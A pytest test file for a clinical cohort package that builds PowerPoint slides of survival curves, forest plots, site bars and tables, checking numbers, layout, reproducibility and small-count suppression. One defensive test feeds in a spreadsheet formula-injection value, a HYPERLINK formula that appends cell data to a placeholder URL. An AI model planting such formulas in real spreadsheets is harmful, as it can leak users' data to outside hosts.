"""Slides: opened by another program, every word large enough and inside, charts with the result's own numbers."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from dataclasses import replace
from datetime import date

import numpy as np
import pytest
from cohorts import SAMPLES, cohort_of, from_sample
from lxml import etree
from openpyxl import load_workbook
from pptx import Presentation
from pptx.util import Emu

from necc import read_cohort
from necc.present.figures.steps import CountRow
from necc.present.tables import Table
from necc.project import Exhibit, Project
from necc.report import make_report, ready
from necc.report.fitting import lines_of
from necc.report.slides import slides
from necc.report.slides.charts import row_pages
from necc.report.slides.deck import LEAST

SAMPLE = from_sample("reconstructed_cohort.csv")
KM = "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='site:lung'))"
SHOWN = {
    "Curves": KM,
    "Risk of four": "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='figo_stage'), show='risk')",
    "Log-log": "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='site:lung'), show='log-log')",
    "Incidence": "figures.incidence_curves(cumulative_incidence(cohort, by='histology'), cause='lung')",
    "Bars": "figures.site_bars(site_distribution(cohort))",
    "Bars of groups": "figures.site_bars_by(site_distribution(cohort, 'histology'))",
    "Forest": "figures.forest(univariate(cohort, 'PRS', covariates=('age_years', 'histology', 'n_lesions', "
              "'site:bone'), multivariable=('age_years', 'n_lesions')))",
    "Lanes": "figures.swimmer(swimmer(cohort))",
    "Not there": "figures.nothing(cohort)",
}  # fmt: skip
C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"


def report(exhibits=None, **more):
    exhibits = exhibits or [Exhibit(title, shows=(recipe,)) for title, recipe in SHOWN.items()]
    made = make_report(Project(title="Recurrent NECC", exhibits=exhibits), SAMPLE)
    return replace(made, **more) if more else made


@pytest.fixture(scope="module")
def shown():
    return report()


@pytest.fixture(scope="module")
def made(shown):
    return slides(shown)


@pytest.fixture(scope="module")
def deck(made):
    return Presentation(io.BytesIO(made.content))


def titled(deck, title):
    return [s for s in deck.slides if s.shapes.title.text.startswith(title)]


def all_shapes(slide):
    for shape in slide.shapes:
        yield shape
        if shape.shape_type == 6:  # a group
            yield from shape.shapes


def charts(slide):
    return [s.chart for s in all_shapes(slide) if getattr(s, "has_chart", False) and s.has_chart]


def points(series):
    """x and y of a series of points, as the chart's XML has them."""
    found = [[float(v.text) for v in series._element.find(f"{C}{axis}").iter(f"{C}v")] for axis in ("xVal", "yVal")]
    return list(zip(*found, strict=True))


def named(chart):
    return {s.name: s for s in chart.plots[0].series}


# ---------------------------------------------------------------- the file as a whole
def test_each_item_has_its_slides_and_what_is_not_there_is_named_in_its_place(deck, made, shown):
    titles = [s.shapes.title.text for s in deck.slides]
    assert titles[:2] == ["Recurrent NECC", "Conventions"]
    order = [t.partition(" (")[0] for t in titles[2:]]
    assert list(dict.fromkeys(order)) == [item.title for item in shown.items]
    (lacking,) = titled(deck, "Not there")
    assert "isn't here" in " ".join(s.text_frame.text for s in lacking.shapes if s.has_text_frame)
    assert made.problems == ()
    assert (deck.slide_width, deck.slide_height) == (12191695, 6858000)


def test_the_same_report_gives_the_same_bytes_and_no_clock(made, shown):
    assert slides(shown).content == made.content
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        names = archive.namelist()
        assert not [n for n in names if "thumbnail" in n or "printerSettings" in n]
        about = archive.read("docProps/core.xml").decode()
        text = b"".join(archive.read(n) for n in names if n.endswith(".xml")).decode()
    assert "Steve Canny" not in about and "1980-01-01T00:00:00Z" in about and "Recurrent NECC" in about
    assert 'typeface="Calibri"' not in text and 'typeface="Arial"' in text
    dated = slides(report([Exhibit("Curves", shows=(KM,))], day=date(2026, 3, 1))).content
    assert b"2026-03-01" in zipfile.ZipFile(io.BytesIO(dated)).read("docProps/core.xml")


def test_every_word_is_large_enough_and_every_shape_on_its_slide(deck):
    for slide in deck.slides:
        for size in re.findall(r'sz="(\d+)"', etree.tostring(slide._element).decode()):
            assert int(size) >= 100 * LEAST
        for chart in charts(slide):
            sizes = re.findall(r'sz="(\d+)"', etree.tostring(chart._chartSpace).decode())
            assert sizes and min(map(int, sizes)) >= 100 * LEAST
        for shape in slide.shapes:
            assert shape.left >= 0 and shape.left + shape.width <= deck.slide_width + 10
            assert shape.top >= 0 and shape.top + shape.height <= deck.slide_height


def test_origin_stands_on_every_slide_and_alternative_text_on_every_figure(deck, shown):
    for slide in list(deck.slides)[2:]:
        assert shown.notice in [s.text_frame.text for s in slide.shapes if s.has_text_frame]
    assert shown.notice in " ".join(s.text_frame.text for s in list(deck.slides)[0].shapes)
    for slide in deck.slides:
        for shape in all_shapes(slide):
            if shape.shape_type == 13 or getattr(shape, "has_chart", False):
                assert shape._element.xpath(".//p:cNvPr")[0].get("descr")


def test_notes_say_what_it_shows_what_is_left_out_and_how_it_is_made(deck, shown):
    (slide,) = titled(deck, "Curves")
    notes = slide.notes_slide.notes_text_frame.text
    assert KM in notes and shown.items[0].caption in notes and "in 88 patients; 40 of them had the event" in notes


def test_no_slide_names_a_row_of_the_file(made):
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        text = " ".join(archive.read(n).decode() for n in archive.namelist()
                        if n.startswith(("ppt/slides/", "ppt/notesSlides/")) and n.endswith(".xml"))  # fmt: skip
    assert not re.search(r"\b[Rr]ow \d", text)
    assert not any(str(pid) in text for pid in SAMPLE.table.get("patient_id", [])[:5])


# ---------------------------------------------------------------- charts
def test_curves_are_the_results_own_numbers(deck, shown):
    (slide,) = titled(deck, "Curves")
    (chart,) = charts(slide)
    (km,) = [c.result for c in shown.items[0].computed]
    series = named(chart)
    for curve in km.curves:
        entry = f"{curve.name} (n = {curve.n})"
        drawn = points(series[entry]) + points(series[f"{entry}: fewer than 5 at risk"])
        events = curve.n_events > 0
        steps = set(zip(curve.time[events].tolist(), curve.survival[events].tolist(), strict=True))
        assert steps <= set(drawn) and (0.0, 1.0) in drawn  # unrounded, each step at its time
        assert {y for _, y in drawn} == {1.0, *curve.survival[events].tolist()}
        assert max(x for x, _ in drawn) == curve.time[-1]
        censored = curve.n_censored > 0
        marks = zip(curve.time[censored].tolist(), curve.survival[censored].tolist(), strict=True)
        assert points(series[f"{entry}: censored"]) == list(marks)
        lower = {y for _, y in points(series[f"{entry}: lower limit"])}
        assert lower <= {1.0, *curve.ci_lower[np.isfinite(curve.ci_lower)].tolist()}
        median = points(series[f"{entry}: median"])
        assert median == [(0.0, 0.5), (curve.median.value, 0.5), (curve.median.value, 0.0)]


def test_the_workbook_of_a_chart_holds_the_same_numbers(deck):
    (slide,) = titled(deck, "Curves")
    (chart,) = charts(slide)
    book = load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
    held = {c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, (int, float))}
    drawn = {v for s in chart.plots[0].series for point in points(s) for v in point}
    assert sorted(drawn) == pytest.approx(sorted({float(v) for v in held}), rel=1e-14)  # 16 digits of a sheet


def test_levels_of_a_file_are_no_formulas_and_break_nothing(tmp_path):
    lines = (SAMPLES / "reconstructed_cohort.csv").read_text().splitlines()
    arms = ['"=HYPERLINK(""http://a.example""&A1)"', "+1+1"]
    (path := tmp_path / "arms.csv").write_text(
        "\n".join(f"{line},{arms[i % 2] if i else 'arm'}" for i, line in enumerate(lines))
    )
    recipes = (
        "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='arm'))",
        "figures.forest(univariate(cohort, 'PRS', covariates=('arm',)))",
        "figures.response_rates(response_rates(cohort, 'best', by='arm'))",
        "figures.site_bars_by(site_distribution(cohort, 'arm'))",
        "figures.incidence_curves(cumulative_incidence(cohort, by='arm'), cause='lung')",
        "figures.survival_curves(kaplan_meier(cohort, 'PRS', by='arm'), show='risk')",
    )
    shown = make_report(Project(title="A\x01&<b>", exhibits=(Exhibit("=1+1\x01", shows=recipes),)), read_cohort(path))
    made = slides(shown)
    assert not shown.problems and not made.problems
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        books = [load_workbook(io.BytesIO(archive.read(n))) for n in archive.namelist() if n.endswith(".xlsx")]
    cells = [cell for book in books for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert len(books) >= len(recipes)
    assert all(any("HYPERLINK" in str(c.value) for s in book for row in s for c in row) for book in books)
    assert not [cell.value for cell in cells if cell.data_type == "f"]


def test_the_numbers_at_risk_stand_under_their_ticks(deck, shown):
    (slide,) = titled(deck, "Curves")
    (chart,) = charts(slide)
    (table,) = [s for s in slide.shapes if s.name == "Numbers at risk"]
    frame = next(s for s in all_shapes(slide) if getattr(s, "has_chart", False) and s.has_chart)
    share = {name: float(chart._chartSpace.find(f".//{C}manualLayout/{C}{name}").get("val")) for name in "xw"}
    left, wide = frame.left + share["x"] * frame.width, share["w"] * frame.width
    end, step = chart.category_axis.maximum_scale, chart.category_axis.major_unit
    edges = np.cumsum([table.left, *(c.width for c in table.table.columns)])
    middles = {j: (edges[j] + edges[j + 1]) / 2 for j in range(1, len(edges) - 1)}
    at_risk = next(r for r in table.table.rows if r.cells[0].text.strip() == "At risk")
    (km,) = [c.result for c in shown.items[0].computed]
    ticks = np.arange(0, end, step)
    told = {j: cell.text for j, cell in enumerate(at_risk.cells) if j and cell.text}
    assert list(told.values()) == [str(n) for n in km.curves[0].at_risk(ticks)]
    for (j, _), tick in zip(told.items(), ticks, strict=True):
        assert middles[j] == pytest.approx(left + tick / end * wide, abs=Emu(9144))  # a hundredth of an inch


def test_curves_of_many_groups_keep_a_high_plot_and_their_numbers_follow():
    n, groups = len(SAMPLE), [f"Group of a rather long name {i}" for i in range(7)]
    many = cohort_of({"time": np.arange(1.0, n + 1), "event": [i % 2 for i in range(n)],
                      "arm": [groups[i % 7] for i in range(n)]})  # fmt: skip
    recipe = "figures.survival_curves(kaplan_meier(cohort, 'T', by='arm'))"
    shown = make_report(Project(exhibits=(Exhibit("Seven", shows=(recipe,)),)), many)
    made = Presentation(io.BytesIO(slides(shown).content))
    first, second = titled(made, "Seven")
    assert [s.shapes.title.text for s in (first, second)] == ["Seven (1 of 2)", "Seven (2 of 2)"]
    (chart,) = charts(first)
    frame = next(s for s in all_shapes(first) if getattr(s, "has_chart", False) and s.has_chart)
    plot, legend = (
        {e.tag.removeprefix(C): float(e.get("val")) for e in chart._chartSpace.find(place) if e.tag[len(C) :] in "xywh"}
        for place in (f".//{C}plotArea/{C}layout/{C}manualLayout", f".//{C}legend/{C}layout/{C}manualLayout")
    )
    assert plot["h"] * frame.height > 0.7 * frame.height and not [s for s in first.shapes if s.has_table]
    assert plot["x"] + plot["w"] < legend["x"] and legend["x"] + legend["w"] <= 1 + 1e-6
    (table,) = [s.table for s in second.shapes if s.name == "Numbers at risk"]
    (km,) = [c.result for c in shown.items[0].computed]
    times, *lines = [[c.text for c in row.cells] for row in table.rows]
    ticks = [float(text) for text in times[1:] if text]
    counts = [[text.partition(" ")[0] for text in line[1:] if text] for line in lines if any(line[1:])]
    assert counts == [[str(k) for k in curve.at_risk(np.array(ticks))] for curve in km.curves]
    assert set(groups) <= {line[0].strip() for line in lines}


def test_rows_of_a_group_stay_together_on_a_slide_of_numbers():
    rows = [CountRow(f"{i}", bold=not i % 3) for i in range(60)]
    pages = row_pages(rows)
    assert [row for page in pages for row in page] == rows and len(pages) > 1
    assert all(page[0].bold for page in pages)


def test_a_log_time_axis_and_lanes_are_pictures_of_vectors_with_pixels(deck, made):
    for title in ("Log-log", "Lanes"):
        (slide,) = titled(deck, title)
        assert not charts(slide)
        (picture,) = [s for s in slide.shapes if s.shape_type == 13]
        related = re.search(r'svgBlip[^>]*embed="(\w+)"', etree.tostring(picture._element).decode())[1]
        vector = slide.part.related_part(related).blob
        assert vector.startswith(b"<svg") and b"<text" not in vector  # its letters are drawn
        assert b"max-width" not in vector and picture.image.ext == "png"
        assert picture.image.size[0] > 1000


def test_bars_have_the_results_shares_and_limits(deck, shown):
    item = next(i for i in shown.items if i.title == "Bars")
    (slide,) = titled(deck, "Bars")[:1]
    (chart,) = charts(slide)
    (series,) = chart.plots[0].series
    sites = sorted(item.computed[0].result.sites, key=lambda s: -s.n)
    assert list(series.values) == [s.n / s.of for s in sites][::-1]
    bars = series._element.find(f"{C}errBars")
    plus, minus = ([float(v.text) for v in bars.find(f"{C}{side}").iter(f"{C}v")] for side in ("plus", "minus"))
    limits = [(s.proportion.value - s.proportion.lower, s.proportion.upper - s.proportion.value) for s in sites][::-1]
    assert minus == pytest.approx([low for low, _ in limits]) and plus == pytest.approx([high for _, high in limits])
    (table,) = [s.table for s in slide.shapes if s.name == "Numbers"]
    assert [r.cells[0].text for r in table.rows][1:] == [s.label for s in sites]


def test_bars_of_groups_go_over_as_many_slides_as_they_need(deck, shown):
    item = next(i for i in shown.items if i.title == "Bars of groups")
    distribution = item.computed[0].result
    slides_ = titled(deck, "Bars of groups")
    assert [s.shapes.title.text[-8:] for s in slides_] == ["(1 of 2)", "(2 of 2)"]
    values = {v for slide in slides_ for chart in charts(slide) for s in chart.plots[0].series for v in s.values
              if v is not None}  # fmt: skip
    assert values == {s.sites[i].n / s.sites[i].of for s in distribution.strata for i in range(len(s.sites))}


def test_a_forest_has_the_results_ratios_on_a_log_axis_beside_its_numbers(deck, shown):
    item = next(i for i in shown.items if i.title == "Forest")
    table = item.computed[0].result
    (slide,) = titled(deck, "Forest")
    (chart,) = charts(slide)
    scaling = chart.category_axis._element.find(f"{C}scaling")
    assert scaling[0].tag == f"{C}logBase" and chart.category_axis.major_unit == float(scaling[0].get("val"))
    drawn = {x for s in chart.plots[0].series for x, _ in points(s)}
    terms = [t for row in table.rows for t in row.terms] + list(table.multivariable.terms)
    for term in terms:
        assert {term.hazard_ratio, term.ci_lower, term.ci_upper} <= drawn
    frame = next(s for s in slide.shapes if getattr(s, "has_chart", False) and s.has_chart)
    numbers = next(s for s in slide.shapes if s.name == "Numbers")
    inner = {n: float(chart._chartSpace.find(f".//{C}manualLayout/{C}{n}").get("val")) for n in "yh"}
    rows = [r.height for r in numbers.table.rows]
    count = len(numbers.table.rows) - bool(numbers.table.cell(0, len(numbers.table.columns) - 1).text.startswith("Haz"))
    top = numbers.top + sum(rows[: len(rows) - count])
    assert frame.top + inner["y"] * frame.height == pytest.approx(top, abs=9144)
    assert inner["h"] * frame.height == pytest.approx(sum(rows[len(rows) - count :]), abs=9144)


def test_where_small_counts_are_hidden_no_chart_carries_its_numbers():
    hidden = slides(report([Exhibit("Curves", shows=(KM,))], smallest_cell=5)).content
    deck = Presentation(io.BytesIO(hidden))
    (slide,) = titled(deck, "Curves")
    assert not charts(slide) and [s for s in slide.shapes if s.shape_type == 13]
    assert "in 88 patients" not in slide.notes_slide.notes_text_frame.text
    assert not [n for n in zipfile.ZipFile(io.BytesIO(hidden)).namelist() if n.endswith(".xlsx")]


# ---------------------------------------------------------------- tables, texts, failures
def test_a_long_table_goes_on_with_its_header_and_loses_no_cell():
    recipe = "tables.characteristics_table(characteristics(cohort, by='site:lung'))"
    shown = report([Exhibit("Who they are", shows=(recipe,))])
    deck = Presentation(io.BytesIO(slides(shown).content))
    tables = [s.table for slide in titled(deck, "Who they are") for s in slide.shapes if s.has_table]
    assert len(tables) > 2 and len({tuple(c.text for c in t.rows[0].cells) for t in tables}) == 1
    told = [[c.text.strip() for c in r.cells] for t in tables for r in list(t.rows)[1:]]
    assert told == [[c.strip() for c in row] for row in shown.items[0].thing.rows]
    text = " ".join(s.text_frame.text for slide in deck.slides for s in slide.shapes if s.has_text_frame)
    assert all(note in text for note in shown.items[0].thing.notes)


def test_slides_of_a_table_that_is_split_by_columns_too_are_counted_through():
    rows = tuple((f"Row {i}", *(f"{1000 * i + j:,} (100.0 %)" for j in range(12))) for i in range(30))
    wide = Table("Wide", "wide", ("", *(f"Group {j}" for j in range(12))), rows)
    made = report([Exhibit("Wide", shows=(KM,))])
    item = replace(made.items[0], kind="table", thing=wide, computed=())
    deck = Presentation(io.BytesIO(slides(replace(made, items=(item,))).content))
    shown = [slide for slide in titled(deck, "Wide") if any(s.has_table for s in slide.shapes)]
    heads = {tuple(c.text for c in s.table.rows[0].cells) for slide in shown for s in slide.shapes if s.has_table}
    assert len(heads) > 1 and len(shown) > len(heads)
    titles = [slide.shapes.title.text for slide in shown]
    assert titles == [f"Wide ({i} of {len(shown)})" for i in range(1, len(shown) + 1)]


def test_a_character_without_a_font_leaves_the_picture_there():
    strange = "\U000f0000b"  # a private one, which no font has
    n = len(SAMPLE)
    marked = cohort_of({"time": np.arange(1.0, n + 1), "event": [1] * n, "arm": [strange, "a"] * (n // 2)})
    recipe = "figures.survival_curves(kaplan_meier(cohort, 'T', by='arm'), show='log-log')"
    shown = make_report(Project(exhibits=(Exhibit("Log-log", shows=(recipe,)),)), marked)
    made = slides(shown)
    assert len(made.problems) == 1 and "no font on this computer draws '\\U000f0000'" in made.problems[0]
    (slide,) = titled(Presentation(io.BytesIO(made.content)), "Log-log")
    assert [s for s in slide.shapes if s.shape_type == 13]


def test_one_item_that_fails_is_named_and_the_others_are_made(monkeypatch):
    from necc.present.figures import Figure

    def fails(self, *_, **__):
        raise ValueError("no font on this computer draws '肺'")

    shown = report([Exhibit("Lanes", shows=(SHOWN["Lanes"],)), Exhibit("Curves", shows=(KM,))])
    monkeypatch.setattr(Figure, "to_svg", fails)
    made = slides(shown)
    deck = Presentation(io.BytesIO(made.content))
    assert made.problems == ("'Lanes' isn't here: no font on this computer draws '肺'",)
    (lacking,) = titled(deck, "Lanes")
    assert made.problems[0] in " ".join(s.text_frame.text for s in lacking.shapes if s.has_text_frame)
    assert charts(titled(deck, "Curves")[0])


def test_progress_is_told_between_items_and_may_stop_it(shown):
    seen = []
    slides(report([Exhibit("Curves", shows=(KM,)), Exhibit("Again", shows=(KM,))]), lambda *told: seen.append(told))
    assert seen == [(0.0, "Curves"), (0.5, "Again")]

    def stop(*_):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        slides(shown, stop)


def test_lines_are_counted_as_they_wrap():
    assert lines_of("", 12, 2) == 1 and lines_of("one\ntwo", 12, 2) == 2
    assert lines_of("word " * 20, 12, 1) >= 8 and lines_of("x" * 200, 12, 1) >= 10


# ---------------------------------------------------------------- another program
def test_another_program_shows_every_slide(soffice, made, shown, deck, tmp_path):
    """One start of LibreOffice: a page each, every title and caption as text, and the curves drawn in their colours."""
    from PIL import Image
    from pypdf import PdfReader

    whole = slides(report([*(Exhibit(t, shows=(r,)) for t, r in SHOWN.items()), *ready(SAMPLE)[:2]]))
    (tmp_path / "deck.pptx").write_bytes(whole.content)
    count = len(Presentation(io.BytesIO(whole.content)).slides)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run(
        [str(soffice), profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), "deck.pptx"],
        cwd=tmp_path, check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    read = PdfReader(tmp_path / "deck.pdf")
    assert len(read.pages) == count
    curves = next(i for i, page in enumerate(read.pages) if "Curves" in page.extract_text())
    text = read.pages[curves].extract_text()
    assert "log-rank p = 0.397" in text and "At risk" in text and "100%" in text
    subprocess.run(
        ["pdftoppm", "-r", "72", "-f", str(curves + 1), "-png", "-singlefile", "deck.pdf", "one"],
        cwd=tmp_path, check=True, timeout=60,
    )  # fmt: skip
    with Image.open(tmp_path / "one.png") as image:
        pixels = np.asarray(image.convert("RGB")).astype(int)
    for color in ((0x00, 0x72, 0xB2), (0xD5, 0x5E, 0x00)):  # both curves, not only their marks
        near = np.abs(pixels - color).max(axis=2) < 60
        columns = np.flatnonzero(near[100:300].any(axis=0))
        assert len(columns) > 250
